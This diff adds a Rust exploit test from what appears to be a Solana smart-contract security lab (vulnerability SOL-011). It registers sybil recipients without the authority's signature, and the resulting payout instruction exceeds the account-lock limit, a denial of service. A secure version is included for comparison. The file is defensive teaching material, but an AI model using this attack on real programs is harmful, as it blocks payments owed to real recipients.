@@ -0,0 +1,221 @@
+//! Anyone can join the payroll, and enough sign-ups make the one
+//! instruction that pays it lock more accounts than any transaction may
+
+use anyhow::{ensure, Result as AnyResult};
+use lab_instructions::batch_payout::{distribute_ix, initialize_ix, register_ix};
+use lab_svm::{
+    AddressLookupTableAccount, Keypair, Signer, Svm, TransactionError, TransactionResult,
+    LAMPORTS_PER_SOL, MAX_TX_ACCOUNT_LOCKS,
+};
+use solana_program::entrypoint::ProcessInstruction;
+use solana_program::pubkey::Pubkey;
+
+use super::{deploy, fund, program_account};
+use crate::ctf::{self, Goal};
+use crate::{attacker, fixtures, victim, vulnerability, Harness, Version};
+
+/// the attacker registers 22 recipients of their own, and paying everyone
+/// then takes 65 account locks
+#[vulnerability(
+    id = "SOL-011",
+    category = "DenialOfService",
+    severity = "High",
+    difficulty = "Advanced",
+    rejection = "Validation(MissingSignature)",
+    prerequisite = "missing_signer_check",
+    honest_use = honest_use,
+    reference(
+        title = "Solana docs: address lookup tables",
+        url = "https://solana.com/docs/advanced/lookup-tables",
+    ),
+    reference(
+        title = "Solana docs: transactions",
+        url = "https://solana.com/docs/core/transactions",
+    )
+)]
+fn exploit(harness: &mut Harness) -> AnyResult<()> {
+    let build = build(harness.version());
+    attack(harness, build)
+}
+
+/// An empty payroll: authority, amount, recipient count; the account
+/// grows by one key per recipient
+const PAYROLL_LEN: usize = 32 + 8 + 4;
+/// Where the recipient count sits in the vulnerable version
+const COUNT_OFFSET: u32 = 32 + 8;
+/// Recipients the payroll starts with: more than a legacy transaction
+/// has room to name
+const RECIPIENTS: usize = 40;
+/// Most recipients one distribute can pay, beside the payroll, the
+/// authority and the program
+const PAYABLE: usize = MAX_TX_ACCOUNT_LOCKS - 3;
+const AMOUNT: u64 = LAMPORTS_PER_SOL / 100;
+/// Recipients registered per transaction, each signing
+const SIGNUPS_PER_TRANSACTION: usize = 6;
+
+/// A version's program, its payroll's size and where its recipient count
+/// sits, with the secure version's cursor and no authority pending, and
+/// how many recipients its distribute pays at once
+struct Build {
+    program: ProcessInstruction,
+    payroll_len: usize,
+    count_offset: u32,
+    page: usize,
+}
+
+fn build(version: Version) -> Build {
+    match version {
+        Version::Vulnerable => Build {
+            program: batch_payout::process_instruction,
+            payroll_len: PAYROLL_LEN,
+            count_offset: COUNT_OFFSET,
+            page: usize::MAX,
+        },
+        Version::Secure => Build {
+            program: batch_payout_secure::process_instruction,
+            payroll_len: PAYROLL_LEN + 1 + 4,
+            count_offset: COUNT_OFFSET + 1,
+            page: batch_payout_secure::MAX_PAGE,
+        },
+    }
+}
+
+/// A payroll the victim runs, its honest recipients registered, and a
+/// lookup table naming them for the victim's payouts
+struct Payroll {
+    program_id: Pubkey,
+    address: Pubkey,
+    recipients: Vec<Pubkey>,
+    table: AddressLookupTableAccount,
+}
+
+fn attack(svm: &mut Svm, build: Build) -> AnyResult<()> {
+    let mut payroll = setup(svm, &build)?;
+    fund(svm, &attacker());
+    let flag = ctf::plant(
+        svm,
+        payroll.program_id,
+        Goal::Exceed {
+            account: payroll.address,
+            offset: build.count_offset,
+            limit: PAYABLE as u32,
+        },
+    )?;
+
+    // One more recipient than distribute can pay, the rest the attacker's
+    let sybils: Vec<Keypair> = (RECIPIENTS..=PAYABLE)
+        .map(|i| fixtures::keypair(&format!("batch_payout/sybil-{i}")))
+        .collect();
+    for signups in sybils.chunks(SIGNUPS_PER_TRANSACTION) {
+        let register: Vec<_> = signups
+            .iter()
+            .map(|sybil| {
+                let mut register = register_ix(
+                    payroll.program_id,
+                    payroll.address,
+                    sybil.pubkey(),
+                    victim().pubkey(),
+                );
+                // Named, but the authority never approved
+                register.accounts[2].is_signer = false;
+                register
+            })
+            .collect();
+        let attacker = attacker();
+        let mut signers = vec![&attacker];
+        signers.extend(signups);
+        svm.send(&register, &signers)?;
+    }
+    payroll
+        .recipients
+        .extend(sybils.iter().map(|sybil| sybil.pubkey()));
+
+    // The only payout the program takes now names one account too many
+    let distribute = distribute_ix(
+        payroll.program_id,
+        payroll.address,
+        victim().pubkey(),
+        &payroll.recipients[..payroll.recipients.len().min(build.page)],
+    );
+    let payout = svm.sign_v0(
+        &[distribute],
+        std::slice::from_ref(&payroll.table),
+        &[&victim()],
+    )?;
+    let paid = svm.simulate_versioned_transaction(&payout);
+    ensure!(
+        paid.is_err_and(|failed| failed.err == TransactionError::TooManyAccountLocks),
+        "the payroll still pays out"
+    );
+    ctf::capture(svm, &flag)
+}
+
+/// The victim sets up a payroll of 40 and pays it, naming the recipients
+/// through a lookup table as no legacy transaction can hold them
+fn honest_use(harness: &mut Harness) -> AnyResult<()> {
+    let build = build(harness.version());
+    let payroll = setup(harness, &build)?;
+    pay(harness, &payroll, build.page)?;
+    Ok(())
+}
+
+fn setup(svm: &mut Svm, build: &Build) -> AnyResult<Payroll> {
+    let program_id = deploy(svm, "batch_payout", build.program);
+    let victim_key = fund(svm, &victim());
+    let address = program_account(
+        svm,
+        fixtures::address("batch_payout/payroll"),
+        &program_id,
+        vec![0; build.payroll_len],
+        LAMPORTS_PER_SOL,
+    );
+    svm.send(
+        &[initialize_ix(program_id, address, victim_key, AMOUNT)],
+        &[&victim()],
+    )?;
+
+    let recipients: Vec<Keypair> = (0..RECIPIENTS)
+        .map(|i| fixtures::keypair(&format!("batch_payout/recipient-{i}")))
+        .collect();
+    for signups in recipients.chunks(SIGNUPS_PER_TRANSACTION) {
+        let register: Vec<_> = signups
+            .iter()
+            .map(|recipient| register_ix(program_id, address, recipient.pubkey(), victim_key))
+            .collect();
+        let victim = victim();
+        let mut signers = vec![&victim];
+        signers.extend(signups);
+        svm.send(&register, &signers)?;
+    }
+    let recipients: Vec<Pubkey> = recipients.iter().map(Keypair::pubkey).collect();
+
+    let mut named = vec![address];
+    named.extend(&recipients);
+    let table = svm.create_lookup_table(&victim(), &named)?;
+    Ok(Payroll {
+        program_id,
+        address,
+        recipients,
+        table,
+    })
+}
+
+/// The victim pays every recipient, `page` at a time, in v0 transactions
+/// naming them through the payroll's table
+fn pay(svm: &mut Svm, payroll: &Payroll, page: usize) -> TransactionResult {
+    let mut paid = None;
+    for recipients in payroll.recipients.chunks(page) {
+        let distribute = distribute_ix(
+            payroll.program_id,
+            payroll.address,
+            victim().pubkey(),
+            recipients,
+        );
+        paid = Some(svm.send_v0(
+            &[distribute],
+            std::slice::from_ref(&payroll.table),
+            &[&victim()],
+        )?);
+    }
+    Ok(paid.expect("the payroll has recipients"))
+}